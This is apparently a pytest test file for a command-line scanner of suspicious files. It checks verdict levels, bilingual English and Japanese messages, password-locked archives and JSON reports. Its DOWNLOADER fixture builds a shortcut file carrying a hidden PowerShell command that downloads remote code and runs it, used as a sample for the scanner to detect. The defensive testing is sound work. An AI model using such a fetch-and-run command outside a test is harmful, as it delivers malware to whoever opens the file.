"""Suspicious files on the command line: levels, words, passwords, and the way back from JSON."""

import json
import re
from html import unescape
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import pytest
import pyzipper
from support.cli import invoke, status
from support.lnk_files import lnk
from support.mail_files import reply

DOWNLOADER = lnk(
    r"C:\Windows\System32\cmd.exe",
    "/c powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')\"",
)


def locked(name: str, content: bytes, password: str) -> bytes:
    made = BytesIO()
    with pyzipper.AESZipFile(made, "w", encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(password.encode())
        archive.writestr(name, content)
    return made.getvalue()


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "請求書.lnk").write_bytes(DOWNLOADER)
    (tmp_path / "locked.zip").write_bytes(locked("invoice.lnk", DOWNLOADER, "Zk-83-qw"))
    (tmp_path / "note.txt").write_text("See you at ten.")
    (tmp_path / "unknown.bin").write_bytes(b"\1\2\3\4" * 100)
    return tmp_path


def test_a_dangerous_file_is_exposed(folder: Path) -> None:
    done = invoke("check", str(folder / "請求書.lnk"), "--jobs", "0")
    assert status(done) == 12
    assert "EXPOSED" in done.output
    assert "cannot be told from the file alone" in " ".join(done.output.split())


def test_in_japanese(folder: Path) -> None:
    done = invoke("check", str(folder / "請求書.lnk"), "--jobs", "0", "--lang", "ja")
    flat = "".join(done.output.split())
    assert "「請求書.lnk」は危険なファイルです。" in flat
    assert "電源は切らないでください" in flat


def test_a_harmless_and_an_unknown_one(folder: Path) -> None:
    assert status(invoke("check", str(folder / "note.txt"), "--jobs", "0")) == 0
    done = invoke("check", str(folder / "unknown.bin"), "--jobs", "0")
    assert status(done) == 20
    assert "Do not open it" in done.output


@pytest.mark.parametrize(
    ("lang", "sentence", "another"),
    [("en", "“unknown.bin” is dangerous", "infected"), ("ja", "「unknown.bin」が危険なファイルかどうか", "感染")],
)
def test_nothing_is_said_of_an_infection_of_a_file_that_could_not_be_read(
    folder: Path, lang: str, sentence: str, another: str
) -> None:
    done = invoke("check", str(folder / "unknown.bin"), "--jobs", "0", "--lang", lang)
    verdict = done.output.split("→")[0]
    assert sentence in "".join(verdict.split("\n"))
    assert another not in verdict


def test_what_could_not_be_opened_is_named_once_and_in_the_readers_language(folder: Path) -> None:
    with ZipFile(folder / "sent.zip", "w") as archive:
        archive.writestr("予定.xyz", b"\1\2\3\4" * 100)
    out = invoke("check", str(folder), "--jobs", "0", "--lang", "ja").output
    assert "sent.zip > 予定.xyz\n" in out
    assert "パスワードが分からないため、中のファイル1個を調べられませんでした（locked.zip）" in "".join(out.split())
    assert "「安全」という意味ではありません" in out


def test_what_no_password_opens_is_not_harmless_and_a_given_one_opens_it(folder: Path) -> None:
    closed = invoke("check", str(folder / "locked.zip"), "--jobs", "0")
    assert status(closed) == 20
    assert "encrypted" in closed.output
    given = invoke("check", str(folder / "locked.zip"), "--jobs", "0", "--password", "wrong", "--password", "Zk-83-qw", "--json")
    assert status(given) == 12
    assert "Zk-83-qw" not in given.output


@pytest.mark.parametrize("written", ["Zk-83-qw", "Ｚｋ－８３－ｑｗ"])
def test_the_password_in_the_mail_opens_it(tmp_path: Path, written: str) -> None:
    mail = tmp_path / "mail.eml"
    mail.write_bytes(reply(written, "invoice.zip", locked("invoice.lnk", DOWNLOADER, "Zk-83-qw")))
    done = invoke("check", str(mail), "--jobs", "0", "--json")
    assert status(done) == 12
    ways = [finding["origin"]["path"] for finding in json.loads(done.output)["findings"] if finding["strength"] != "hint"]
    assert ["invoice.zip", "invoice.lnk"] in [way[-2:] for way in ways]


def test_a_folder_tells_each_file(folder: Path) -> None:
    lines = [json.loads(line) for line in invoke("check", str(folder), "--jobs", "0", "--jsonl").output.splitlines()]
    assert {line["path"][0]: line["level"] for line in lines} == {
        "請求書.lnk": "exposed",
        "locked.zip": "undetermined",
        "note.txt": "no-sign",
        "unknown.bin": "undetermined",
    }
    assert {finding["about"] for line in lines for finding in line["findings"]} == {"delivery"}


def test_workers_say_the_same(folder: Path) -> None:
    def said(jobs: str) -> list[object]:
        report = json.loads(invoke("check", str(folder), "--jobs", jobs, "--json").output)
        return [report["verdict"], report["findings"], report["gaps"]]

    assert said("2") == said("0")


def test_a_page_of_files_speaks_of_no_pc(folder: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    report = tmp_path_factory.mktemp("out") / "report.json"
    report.write_text(invoke("check", str(folder), "--jobs", "0", "--json").output, "utf-8")
    made = unescape(invoke("merge", str(report), "--html", "--lang", "ja").output)
    assert "4件" in made
    assert not re.search(r"[0-9]台|PC名|PCの一覧", made)
    assert "パスワードが分からないため、中のファイル1個を調べられませんでした（locked.zip）" in made


def test_a_report_of_files_is_read_back(folder: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    out = tmp_path_factory.mktemp("out")
    assert status(invoke("check", str(folder), "--jobs", "0", "--out", str(out))) == 12
    (report,) = out.glob("*.json")
    assert status(invoke("explain", str(report))) == 12
    assert status(invoke("merge", str(report), "--json")) == 12


def test_an_archive_of_harmless_things(tmp_path: Path) -> None:
    with ZipFile(tmp_path / "a.zip", "w") as archive:
        archive.writestr("readme.txt", "Nothing here.")
    assert status(invoke("check", str(tmp_path / "a.zip"), "--jobs", "0")) == 0


def test_every_format_is_listed_in_both_languages() -> None:
    rows = json.loads(invoke("formats", "--json").output)
    assert {"ole", "ooxml", "zip", "lnk", "onenote", "message"} <= {row["format"] for row in rows}
    assert all(row["words"]["en"] != row["format"] and row["words"]["ja"] != row["format"] for row in rows)
    assert len(invoke("formats").output.splitlines()) == len(rows)


def flat(text: str) -> str:
    return " ".join(text.split())


def test_what_the_weak_signs_are_stands_on_the_page_and_in_the_explanation(
    folder: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    assert "holds only" in flat(invoke("check", str(folder / "locked.zip"), "--jobs", "0").output)
    report = tmp_path_factory.mktemp("out") / "r.json"
    report.write_text(invoke("check", str(folder / "locked.zip"), "--jobs", "0", "--json").output)
    told = flat(invoke("explain", str(report)).output)
    assert "Weak signs (they do not count for the result)" in told
    assert "holds only" in told


def test_the_explanation_says_what_would_change_it_and_nothing_of_pcs(
    folder: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    report = tmp_path_factory.mktemp("out") / "r.json"
    for name, said in (
        ("請求書.lnk", "run `mimawari check` there"),
        ("note.txt", "Newer knowledge"),
        ("unknown.bin", "would decide it"),
    ):
        report.write_text(invoke("check", str(folder / name), "--jobs", "0", "--json").output)
        told = flat(invoke("explain", str(report)).output)
        assert said in told
        assert "disk image" not in told


def test_files_are_not_called_pcs(folder: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    report = tmp_path_factory.mktemp("out") / "r.json"
    report.write_text(invoke("check", str(folder), "--jobs", "0", "--json").output)
    assert "台" not in invoke("merge", str(report), "--lang", "ja").output
    assert "infected" not in invoke("check", str(folder / "unknown.bin"), "--jobs", "0").output


@pytest.mark.parametrize(
    ("content", "said"), [(b"", "the file is empty"), (b"\xd4\xc3\xb2\xa1" + bytes(40) + b"GET / HTTP/1.1 " * 4000, "traffic.bin")]
)
def test_what_tells_nothing_does_not_read_as_harmless(tmp_path: Path, content: bytes, said: str) -> None:
    (tmp_path / "traffic.bin").write_bytes(content)
    done = invoke("check", str(tmp_path / "traffic.bin"), "--jobs", "0")
    assert status(done) == 20
    assert said in done.output
